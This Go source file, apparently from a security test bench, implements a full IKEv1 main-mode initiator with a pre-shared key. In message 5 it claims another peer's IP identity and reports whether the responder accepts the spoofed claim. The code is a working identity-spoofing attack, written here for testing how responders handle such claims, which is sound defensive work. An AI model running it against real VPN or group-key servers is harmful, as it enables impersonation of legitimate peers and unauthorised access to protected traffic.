package attack

import (
	"bytes"
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"math/big"
	"net"
	"net/netip"
	"time"
)

// A main-mode initiator with a pre-shared key (RFC 2409 §5, §5.4), the
// bench's own: AES-256-CBC, SHA-256, MODP group 14 only. It exists to
// claim an identity: a GM that holds its own key and says, in message 5,
// that it is another GM. What the responder does with that claim is the
// verdict.

// modp2048 is the prime of MODP group 14 (RFC 3526 §3); the generator is 2.
var modp2048, _ = new(big.Int).SetString(
	"FFFFFFFFFFFFFFFFC90FDAA22168C234C4C6628B80DC1CD1"+
		"29024E088A67CC74020BBEA63B139B22514A08798E3404DD"+
		"EF9519B3CD3A431B302B0A6DF25F14374FE1356D6D51C245"+
		"E485B576625E7EC6F44C42E9A637ED6B0BFF5CB6F406B7ED"+
		"EE386BFB5A899FA5AE9F24117C4B1FE649286651ECE45B3D"+
		"C2007CB8A163BF0598DA48361C55D39A69163FA8FD24CF5F"+
		"83655D23DCA3AD961C62F356208552BB9ED529077096966D"+
		"670C354E4ABC9804F1746C08CA18217C32905E462E36CE3B"+
		"E39E772C180E86039B2783A2EC07A28FB5C55DF06F4C52C9"+
		"DE2BCBF6955817183995497CEA956AE515D2261898FA0510"+
		"15728E5A8AACAA68FFFFFFFFFFFFFFFF", 16)

// MainModeResult is how a main mode ended.
type MainModeResult struct {
	// Established is true when message 6 came back and its HASH_R
	// verified: the responder accepted the identity claimed.
	Established bool
	// Notify is the type of the notification the responder sent instead,
	// 0 if none; Stage the message it answered (1, 3 or 5).
	Notify uint16
	Stage  int
}

func (r MainModeResult) String() string {
	if r.Established {
		return "phase 1 established"
	}
	if r.Notify != 0 {
		return fmt.Sprintf("notification %d after message %d", r.Notify, r.Stage)
	}
	return fmt.Sprintf("no answer to message %d", r.Stage)
}

// ClaimIdentity runs main mode from conn to to with pre-shared key psk
// and ID_IPV4_ADDR id in message 5, whatever conn's address is. Each
// message gets one answer within wait, or the result says which went
// unanswered.
func ClaimIdentity(ctx context.Context, conn *net.UDPConn, to netip.AddrPort, psk []byte, id netip.Addr, wait time.Duration) (MainModeResult, error) {
	prf := func(key []byte, parts ...[]byte) []byte {
		m := hmac.New(sha256.New, key)
		for _, p := range parts {
			m.Write(p)
		}
		return m.Sum(nil)
	}
	exchange := func(stage int, msg []byte) ([]byte, *MainModeResult, error) {
		if _, err := conn.WriteToUDPAddrPort(msg, to); err != nil {
			return nil, nil, err
		}
		buf := make([]byte, 65535)
		deadline := time.Now().Add(wait)
		for time.Now().Before(deadline) && ctx.Err() == nil {
			_ = conn.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
			n, from, err := conn.ReadFromUDPAddrPort(buf)
			if err != nil || from.Addr().Unmap() != to.Addr() {
				continue
			}
			reply := bytes.Clone(buf[:n])
			if t, ok := NotifyType(reply); ok {
				return nil, &MainModeResult{Notify: t, Stage: stage}, nil
			}
			h, err := ParseHeader(reply)
			if err != nil || !bytes.Equal(h.ICookie[:], msg[:8]) || h.Exchange != exchMainMode {
				continue
			}
			return reply, nil, nil
		}
		return nil, &MainModeResult{Stage: stage}, ctx.Err()
	}

	icky := RandomCookie()
	p := Phase1{Encryption: 7, KeyLength: 256, Hash: 4, Group: 14, Lifetime: 86400}
	msg1 := MainMode1(icky, p)
	saiB := p.saPayloadBody()
	reply, res, err := exchange(1, msg1)
	if res != nil || err != nil {
		return deref(res), err
	}
	h2, _ := ParseHeader(reply)
	rcky := h2.RCookie

	x, err := rand.Int(rand.Reader, new(big.Int).Sub(modp2048, big.NewInt(3)))
	if err != nil {
		return MainModeResult{}, err
	}
	x.Add(x, big.NewInt(2))
	gxi := pad(new(big.Int).Exp(big.NewInt(2), x, modp2048).Bytes(), 256)
	ni := Nonce()
	reply, res, err = exchange(3, MainMode3(icky, rcky, gxi, ni))
	if res != nil || err != nil {
		return deref(res), err
	}
	ps, err := payloads(reply)
	if err != nil {
		return MainModeResult{Stage: 3}, fmt.Errorf("attack: message 4: %w", err)
	}
	gxr, nr := ps[payloadKE], ps[payloadNonce]
	if len(gxr) != 256 || len(nr) == 0 {
		return MainModeResult{Stage: 3}, errors.New("attack: message 4 lacks a group-14 KE or a nonce")
	}
	gxy := pad(new(big.Int).Exp(new(big.Int).SetBytes(gxr), x, modp2048).Bytes(), 256)

	// RFC 2409 §5: SKEYID for pre-shared keys, then d, a, e; AES-256
	// takes the first 32 octets of SKEYID_e (SHA-256 gives exactly 32).
	skeyid := prf(psk, ni, nr)
	skeyidD := prf(skeyid, gxy, icky[:], rcky[:], []byte{0})
	skeyidA := prf(skeyid, skeyidD, gxy, icky[:], rcky[:], []byte{1})
	skeyidE := prf(skeyid, skeyidA, gxy, icky[:], rcky[:], []byte{2})
	key := skeyidE[:32]
	sum := sha256.Sum256(append(bytes.Clone(gxi), gxr...))
	iv := sum[:aes.BlockSize]

	a := id.As4()
	idB := append([]byte{1, 0, 0, 0}, a[:]...) // ID_IPV4_ADDR, protocol 0, port 0 (RFC 2407 §4.6.2)
	hashI := prf(skeyid, gxi, gxr, icky[:], rcky[:], saiB, idB)
	plain := payload(nil, payloadHash, idB)
	plain = payload(plain, payloadNone, hashI)
	blk, err := aes.NewCipher(key)
	if err != nil {
		return MainModeResult{}, err
	}
	ct := append(bytes.Clone(plain), make([]byte, (aes.BlockSize-len(plain)%aes.BlockSize)%aes.BlockSize)...)
	cipher.NewCBCEncrypter(blk, iv).CryptBlocks(ct, ct)
	msg5 := header(icky, rcky, payloadID, exchMainMode, flagEncryption, 0, ct)
	reply, res, err = exchange(5, msg5)
	if res != nil || err != nil {
		return deref(res), err
	}
	// Message 6 is encrypted under the last block of message 5.
	body := bytes.Clone(reply[headerLen:])
	if len(body) == 0 || len(body)%aes.BlockSize != 0 {
		return MainModeResult{Stage: 5}, errors.New("attack: message 6 is not whole AES blocks")
	}
	cipher.NewCBCDecrypter(blk, ct[len(ct)-aes.BlockSize:]).CryptBlocks(body, body)
	h6, _ := ParseHeader(reply)
	ps6, err := chain(h6.NextPayload, body)
	if err != nil {
		return MainModeResult{Stage: 5}, fmt.Errorf("attack: message 6: %w", err)
	}
	hashR := prf(skeyid, gxr, gxi, rcky[:], icky[:], saiB, ps6[payloadID])
	if !hmac.Equal(hashR, ps6[payloadHash]) {
		return MainModeResult{Stage: 5}, errors.New("attack: message 6 HASH_R does not verify")
	}
	return MainModeResult{Established: true, Stage: 5}, nil
}

func deref(r *MainModeResult) MainModeResult {
	if r == nil {
		return MainModeResult{}
	}
	return *r
}

// pad left-pads b with zeros to n octets.
func pad(b []byte, n int) []byte {
	if len(b) >= n {
		return b
	}
	return append(make([]byte, n-len(b)), b...)
}

// payloads returns the bodies of a plaintext message's payloads by type.
func payloads(msg []byte) (map[uint8][]byte, error) {
	h, err := ParseHeader(msg)
	if err != nil {
		return nil, err
	}
	return chain(h.NextPayload, msg[headerLen:])
}

// chain walks a payload chain starting with type next, checking every
// length, and returns each payload's body by type (the last of a type).
func chain(next uint8, b []byte) (map[uint8][]byte, error) {
	out := map[uint8][]byte{}
	for next != payloadNone {
		if len(b) < 4 {
			return nil, errors.New("payload header past the end")
		}
		l := int(binary.BigEndian.Uint16(b[2:]))
		if l < 4 || l > len(b) {
			return nil, fmt.Errorf("payload %d of length %d in %d octets", next, l, len(b))
		}
		out[next] = b[4:l]
		next, b = b[0], b[l:]
	}
	return out, nil
}
